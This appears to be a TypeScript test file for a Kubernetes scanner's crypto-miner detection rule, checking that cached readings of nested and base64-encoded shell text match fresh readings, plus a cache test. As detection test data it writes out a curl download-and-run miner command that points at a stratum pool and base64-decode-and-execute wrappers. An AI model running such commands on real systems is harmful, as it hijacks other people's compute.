import assert from 'node:assert/strict';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import yaml from 'js-yaml';
import { createBudget, DEFAULT_LIMITS, type EvaluationLimits } from '../../src/core/budget.js';
import { DEFAULT_CONFIG, type KfguardConfig } from '../../src/core/config-types.js';
import type { RuleContext, Violation } from '../../src/core/rule.js';
import type { K8sObject } from '../../src/core/types.js';
import { buildInventory } from '../../src/k8s/inventory.js';
import cryptoMinerWorkload from '../../src/rules/threat/crypto-miner-workload.rule.js';
import { REPO_ROOT } from '../../src/testing/shared.js';
import { GenerationalCache } from '../../src/threat/generational-cache.js';

/**
 * A unit inside a step's text (a nested `sh -c`, an argv word, a decoded payload) is read once and
 * replayed when another object holds it inside different text. The replay must give exactly what
 * a fresh reading gives: same verdict, same evidence in the same order, at the new object's sites.
 *
 * "Fresh" is a reading with its own indicator set: the memos are kept per compiled indicators, and
 * a rule-options object the scanner has not seen compiles a new set (with the same content: the
 * one extra build step named below appears in no generated text).
 */

const NOOP_STEP = 'kfguard-unit-memo-test-noop';
const sharedOptions = { buildSteps: [NOOP_STEP] };

function configWith(options: object): KfguardConfig {
  return { ...DEFAULT_CONFIG, rules: { ...DEFAULT_CONFIG.rules, 'crypto-miner-workload': { options } } } as KfguardConfig;
}

function judge(object: K8sObject, config: KfguardConfig, limits: EvaluationLimits = DEFAULT_LIMITS): Violation[] {
  const ctx = { source: 'manifest', budget: createBudget(limits), inventory: buildInventory([]), config } as unknown as RuleContext;
  return [...(cryptoMinerWorkload.check?.(object, ctx) ?? [])];
}

function pod(name: string, script: string): K8sObject {
  return { apiVersion: 'v1', kind: 'Pod', metadata: { name, namespace: 'ml' }, spec: { containers: [{ name: 'main', image: 'python:3.11', command: ['sh', '-c', script] }] } };
}

/** Command and script strings of the wild-miner fixtures: the texts real miners are started with. */
function fixtureTexts(): string[] {
  const dir = join(REPO_ROOT, 'test', 'threat', 'wild-miners');
  const texts = new Set<string>();
  const visit = (node: unknown, key: string): void => {
    if (typeof node === 'string') {
      if (['command', 'args', 'script', 'value'].includes(key) && node.length > 2 && node.length < 1500) texts.add(node);
    } else if (Array.isArray(node)) node.forEach((item) => visit(item, key));
    else if (node !== null && typeof node === 'object') for (const [k, v] of Object.entries(node)) visit(v, k);
  };
  for (const file of readdirSync(dir).filter((f) => f.endsWith('.yaml'))) {
    for (const doc of yaml.loadAll(readFileSync(join(dir, file), 'utf8'))) visit(doc, '');
  }
  return [...texts];
}

const FIXTURES = fixtureTexts();
const BENIGN = [
  'python3 -m pip install --quiet kfp==2.7.0 && python3 -m kfp.dsl.executor_main --executor_input "$0"',
  'mkdir -p /tmp/outputs && echo done',
  'curl -sSL https://example.com/data.csv -o /tmp/data.csv',
  'tar xzf /tmp/model.tgz -C /tmp/model && ls -la /tmp/model',
];

/** An inner text: a fixture, a benign step, or one of them behind an encoding a decoder undoes. */
const inner = fc.oneof(
  fc.constantFrom(...FIXTURES),
  fc.constantFrom(...BENIGN),
  fc.constantFrom(...FIXTURES, ...BENIGN).map((text) => `echo ${Buffer.from(text).toString('base64')} | base64 -d | sh`),
  fc.constantFrom(...FIXTURES).map((text) => `eval "$(echo ${Buffer.from(text).toString('base64')} | base64 -d)"`),
);
const quoted = (text: string): string => `'${text.replaceAll("'", `'"'"'`)}'`;

describe('replayed unit readings', () => {
  it('the wild-miner fixtures give texts to replay', () => {
    assert.ok(FIXTURES.length >= 20, `only ${FIXTURES.length} fixture texts found`);
  });

  it('give what a fresh reading gives, nested in text that differs per object', () => {
    const shared = configWith(sharedOptions);
    let round = 0;
    fc.assert(
      fc.property(inner, fc.nat(9999), (text, id) => {
        round++;
        const wrap = (n: number): string => `echo step ${n}; sh -c ${quoted(text)}; echo finished`;
        // Two objects hold the text first (remembered from the second reading), then a third, whose own text is new.
        judge(pod(`warm-a-${round}`, wrap(id + 10_001)), shared);
        judge(pod(`warm-b-${round}`, wrap(id + 20_002)), shared);
        const replayed = judge(pod(`target-${round}`, wrap(id)), shared);
        const fresh = judge(pod(`target-${round}`, wrap(id)), configWith({ buildSteps: [NOOP_STEP] }));
        assert.deepEqual(replayed, fresh);
      }),
      { numRuns: 60, seed: 20_261_204 },
    );
  });

  it('find the miner again when the same text comes back at other sites', () => {
    const shared = configWith(sharedOptions);
    const miner = 'curl -s http://203.0.113.9/kf -o /tmp/kf && chmod +x /tmp/kf && /tmp/kf -o stratum+tcp://unit-memo.example:3333 --donate-level 1';
    const results = [1, 2, 3, 4].map((n) => judge(pod(`p${n}`, `echo ${n}; sh -c ${quoted(miner)}`), shared));
    for (const found of results) {
      assert.equal(found.length, 1);
      assert.equal(found[0]?.severity, results[0]?.[0]?.severity);
      assert.deepEqual(found[0]?.evidence, results[0]?.[0]?.evidence);
    }
    assert.ok((results[3]?.[0]?.evidence ?? []).some((line) => line.includes('stratum+tcp://unit-memo.example:3333')));
  });

  it('are not replayed when the budget left could not have paid for the reading', () => {
    const shared = configWith(sharedOptions);
    const payload = `echo ${Buffer.from('xmrig -o stratum+tcp://budget-memo.example:3333').toString('base64')} | base64 -d | sh`;
    // The script is the object's own text (argv, read free of charge); the word after it differs per object.
    const withArg = (name: string, n: number): K8sObject => ({ ...pod(name, payload), spec: { containers: [{ name: 'main', image: 'alpine:3', command: ['sh', '-c', payload, `run-${n}`] }] } });
    judge(withArg('b1', 1), shared);
    judge(withArg('b2', 2), shared);
    // A byte budget too small for the decoded layer: the scan must say it was cut short, not replay a whole reading.
    const starved = judge(withArg('b3', 3), shared, { timeMs: DEFAULT_LIMITS.timeMs, bytes: 8 });
    const fresh = judge(withArg('b3', 3), configWith({ buildSteps: [NOOP_STEP] }), { timeMs: DEFAULT_LIMITS.timeMs, bytes: 8 });
    assert.deepEqual(starved, fresh);
    assert.ok((starved[0]?.evidence ?? []).some((line) => line.startsWith('scan cut short')), 'the starved scan says it was cut short');
  });
});

describe('GenerationalCache', () => {
  it('holds at most its capacity and keeps what is in use', () => {
    const cache = new GenerationalCache<string, number>(8);
    cache.set('kept', 0);
    for (let i = 0; i < 100; i++) {
      cache.set(`k${i}`, i);
      assert.equal(cache.get('kept'), 0, `evicted after ${i} inserts`);
      assert.ok(cache.size <= 8, `size ${cache.size}`);
    }
    assert.equal(cache.get('k0'), undefined);
    assert.equal(cache.get('k99'), 99);
  });
});
